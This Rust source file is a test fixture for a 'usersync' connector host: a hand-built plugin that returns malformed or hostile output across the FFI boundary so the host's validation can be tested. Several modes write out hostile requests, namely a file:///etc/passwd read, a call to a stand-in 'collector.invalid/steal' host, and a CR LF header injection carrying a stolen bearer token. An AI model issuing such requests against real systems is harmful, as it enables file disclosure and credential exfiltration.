//! TEST FIXTURE (not a connector): a plugin that returns garbage across the ABI. It implements
//! the FFI traits of `usersync_abi::ffi` by hand (not through `export_connector!`, which only
//! ever sends well-formed JSON), so it can hand the host whatever a broken plugin might.
//!
//! Connector id `fixture-garbage`, one `list_users` endpoint, no authentication. Options:
//! `base_url` (where its requests go; any server answers) and `garbage`, which says what goes
//! wrong:
//!
//! | `garbage` | what the plugin does |
//! |---|---|
//! | `none` | behaves: two pages of users (`u1`, `u2`, then `u3`) |
//! | `second_page_invalid_json` | page 1 is `u1` only, page 2 is cut-off JSON |
//! | `invalid_json` | the page is cut-off JSON |
//! | `wrong_shape` | the page is JSON, but a user's `id` is a number and its `username` a list |
//! | `not_a_batch` | the page is a JSON array of numbers |
//! | `empty_ids` | a well-formed page with a user whose id is `""` |
//! | `huge_page` | a page of 65 MiB |
//! | `absurd_count` | a page claiming 2^64-1 skipped objects |
//! | `unreadable_error` | the page call fails with an error that is not a `ConnectorError` |
//! | `file_url` | its first request is `file:///etc/passwd` |
//! | `foreign_host` | its first request goes to a host that is not its base URL |
//! | `bad_method` | its first request uses `DELETE` |
//! | `header_injection` | its first request has a header value with CR LF in it |
//! | `bad_auth_plan` | opening a session returns an auth plan that is not JSON |
//! | `bad_base_urls` | opening a session returns base URLs that are a JSON number |
//!
//! With the environment variable `USERSYNC_FIXTURE_GARBAGE_MANIFEST` set, the manifest itself is
//! broken, so the library is refused while loading: `invalid` sends a well-formed manifest that
//! fails validation (an `http://` endpoint), `unreadable` sends text that is not JSON.
#![allow(non_local_definitions)] // sabi_trait codegen trips this rustc lint

use abi_stable::library::{CheckTypeLayout, LibHeader, RootModuleResult};
use abi_stable::sabi_trait::TD_Opaque;
use abi_stable::std_types::{RErr, RNone, ROk, ROption, RSome, RStr, RString, Tuple2};
use usersync_abi::ffi::{
    FfiConnector, FfiConnectorBox, FfiConnector_TO, FfiCursor, FfiCursorBox, FfiCursor_TO, FfiHttpRequest,
    FfiHttpResponse, FfiResult, FfiSession, FfiSessionBox, FfiSession_TO, PluginModRef,
};
use usersync_sdk::model::{Record, User, UserState, UserStatus};
use usersync_sdk::{
    AuthFlowKind, AuthFlowSpec, Batch, Capabilities, ConnectorError, Endpoint, Manifest, Operation,
    OptionSpec, OptionType, Options, Query, ABI_VERSION,
};

/// The fixture's manifest (well-formed: the garbage comes later).
pub fn manifest() -> Manifest {
    Manifest {
        id: "fixture-garbage".into(),
        name: "Garbage-returning fixture (tests only)".into(),
        version: env!("CARGO_PKG_VERSION").into(),
        abi_version: ABI_VERSION,
        auth: vec![AuthFlowSpec {
            flow: AuthFlowKind::ApiToken,
            token_url: None,
            authorize_url: None,
            scopes: Vec::new(),
            description: "none (the fixture sends no credentials)".into(),
        }],
        endpoints: vec![Endpoint {
            method: "GET".into(),
            url: "https://garbage.test/garbage/users".into(),
            purpose: "Fetching garbage".into(),
            operation: Operation::ListUsers,
        }],
        capabilities: Capabilities::default(),
        options: vec![
            OptionSpec::new("base_url", OptionType::Url, true, "Where the requests go."),
            OptionSpec::new(
                "garbage",
                OptionType::String,
                true,
                "What goes wrong (see the crate docs).",
            ),
        ],
        default_concurrency: 1,
    }
}

fn error(e: ConnectorError) -> RString {
    serde_json::to_string(&e)
        .unwrap_or_else(|_| r#"{"kind":"plugin","detail":"unserialisable"}"#.into())
        .into()
}

fn json<T: serde::Serialize>(v: &T) -> FfiResult<RString> {
    match serde_json::to_string(v) {
        Ok(s) => ROk(s.into()),
        Err(e) => RErr(error(ConnectorError::Plugin {
            detail: e.to_string(),
        })),
    }
}

struct Garbage;

impl FfiConnector for Garbage {
    fn manifest_json(&self) -> FfiResult<RString> {
        match std::env::var("USERSYNC_FIXTURE_GARBAGE_MANIFEST").as_deref() {
            Ok("invalid") => {
                let mut m = manifest();
                m.endpoints[0].url = "http://garbage.test/garbage/users".into();
                json(&m)
            }
            Ok("unreadable") => ROk("<manifest>garbage</manifest>".into()),
            _ => json(&manifest()),
        }
    }

    fn open(&self, options_json: RString) -> FfiResult<FfiSessionBox> {
        let options: Options = match serde_json::from_str(&options_json) {
            Ok(o) => o,
            Err(e) => {
                return RErr(error(ConnectorError::Plugin {
                    detail: e.to_string(),
                }))
            }
        };
        let base = options.str("base_url").unwrap_or_default().trim_end_matches('/');
        ROk(FfiSession_TO::from_value(
            GarbageSession {
                base: base.to_string(),
                mode: options.str("garbage").unwrap_or("none").to_string(),
            },
            TD_Opaque,
        ))
    }
}

struct GarbageSession {
    base: String,
    mode: String,
}

impl FfiSession for GarbageSession {
    fn auth_plan_json(&self) -> FfiResult<RString> {
        match self.mode.as_str() {
            "bad_auth_plan" => ROk("{\"flow\": \"api_tok".into()),
            _ => json(&usersync_sdk::AuthPlan::None),
        }
    }

    fn base_urls_json(&self) -> FfiResult<RString> {
        match self.mode.as_str() {
            "bad_base_urls" => ROk("42".into()),
            _ => json(&vec![self.base.clone()]),
        }
    }

    fn query(&self, query_json: RString) -> FfiResult<FfiCursorBox> {
        match serde_json::from_str::<Query>(&query_json) {
            Ok(Query::ListUsers) => ROk(FfiCursor_TO::from_value(
                GarbageCursor {
                    base: self.base.clone(),
                    mode: self.mode.clone(),
                    page: 1,
                },
                TD_Opaque,
            )),
            Ok(q) => RErr(error(ConnectorError::Unsupported {
                operation: q.operation().to_string(),
            })),
            Err(e) => RErr(error(ConnectorError::Plugin {
                detail: e.to_string(),
            })),
        }
    }

    fn token_error_json(&self, _response: FfiHttpResponse) -> FfiResult<RString> {
        ROk("null".into())
    }
}

struct GarbageCursor {
    base: String,
    mode: String,
    /// The page the next request asks for; 0 when the listing is complete.
    page: u32,
}

fn request(method: &str, url: String, headers: Vec<(&str, &str)>) -> FfiHttpRequest {
    FfiHttpRequest {
        method: method.into(),
        url: url.into(),
        headers: headers
            .into_iter()
            .map(|(k, v)| Tuple2(RString::from(k), RString::from(v)))
            .collect(),
        body: ROption::RNone,
    }
}

fn users(ids: &[&str]) -> Batch {
    Batch::of(
        ids.iter()
            .map(|id| {
                Record::User(User::new(
                    *id,
                    format!("{id}@garbage.test"),
                    UserStatus::new(UserState::Active, "active"),
                ))
            })
            .collect(),
    )
}

const CUT_OFF: &str = r#"{"records": [{"record": "user", "id": "u1", "username": "#;

impl FfiCursor for GarbageCursor {
    fn pending(&self) -> FfiResult<ROption<FfiHttpRequest>> {
        if self.page == 0 {
            return ROk(RNone);
        }
        let url = format!("{}/garbage/users?page={}", self.base, self.page);
        let accept = ("Accept", "application/json");
        ROk(RSome(match self.mode.as_str() {
            "file_url" => request("GET", "file:///etc/passwd".into(), vec![accept]),
            "foreign_host" => request(
                "GET",
                "https://collector.invalid/steal?from=usersync".into(),
                vec![accept],
            ),
            "bad_method" => request("DELETE", url, vec![accept]),
            "header_injection" => request(
                "GET",
                url,
                vec![accept, ("X-Trace", "1\r\nAuthorization: Bearer stolen")],
            ),
            _ => request("GET", url, vec![accept]),
        }))
    }

    fn on_response(&mut self, _response: FfiHttpResponse) -> FfiResult<RString> {
        let page = self.page;
        self.page = 0; // one page unless the mode says otherwise
        match self.mode.as_str() {
            "none" if page == 1 => {
                self.page = 2;
                json(&users(&["u1", "u2"]))
            }
            "none" => json(&users(&["u3"])),
            "second_page_invalid_json" if page == 1 => {
                self.page = 2;
                json(&users(&["u1"]))
            }
            "second_page_invalid_json" | "invalid_json" => ROk(CUT_OFF.into()),
            "wrong_shape" => ROk(
                r#"{"records":[{"record":"user","id":42,"username":["a","b"],"status":{"state":"active","raw":"x"}}]}"#
                    .into(),
            ),
            "not_a_batch" => ROk("[1, 2, 3]".into()),
            "empty_ids" => json(&users(&["u1", ""])),
            "huge_page" => {
                let mut s = String::with_capacity(65 << 20);
                s.push_str(r#"{"records": [], "padding": ""#);
                s.extend(std::iter::repeat_n('x', 65 << 20));
                s.push_str("\"}");
                ROk(s.into())
            }
            "absurd_count" => ROk(r#"{"records": [], "skipped": {"device": 18446744073709551615}}"#.into()),
            "unreadable_error" => RErr("%%% this is not a ConnectorError %%%".into()),
            other => RErr(error(ConnectorError::Config {
                option: "garbage".into(),
                reason: format!("unknown garbage mode `{other}`"),
            })),
        }
    }
}

extern "C" fn new_connector() -> FfiResult<FfiConnectorBox> {
    ROk(FfiConnector_TO::from_value(Garbage, TD_Opaque))
}

fn root_module() -> PluginModRef {
    usersync_abi::plugin::root_module(
        RStr::from_str(env!("CARGO_PKG_NAME")),
        RStr::from_str(env!("CARGO_PKG_VERSION")),
        new_connector,
    )
}

/// The plugin's root module header, under the per-crate symbol the host looks for (see
/// `usersync_abi::PLUGIN_SYMBOL_PREFIX`; the same as `export_connector!` emits).
#[unsafe(export_name = concat!("usersync_plugin_root_", env!("CARGO_CRATE_NAME")))]
pub static USERSYNC_PLUGIN_ROOT: LibHeader = {
    extern "C" fn erased_module() -> RootModuleResult {
        abi_stable::library::__call_root_module_loader(root_module)
    }
    // SAFETY: the constructor returns the root module of type `PluginModRef`, exactly the type
    // given to `from_constructor`.
    unsafe { LibHeader::from_constructor::<PluginModRef>(erased_module, CheckTypeLayout::Yes) }
};
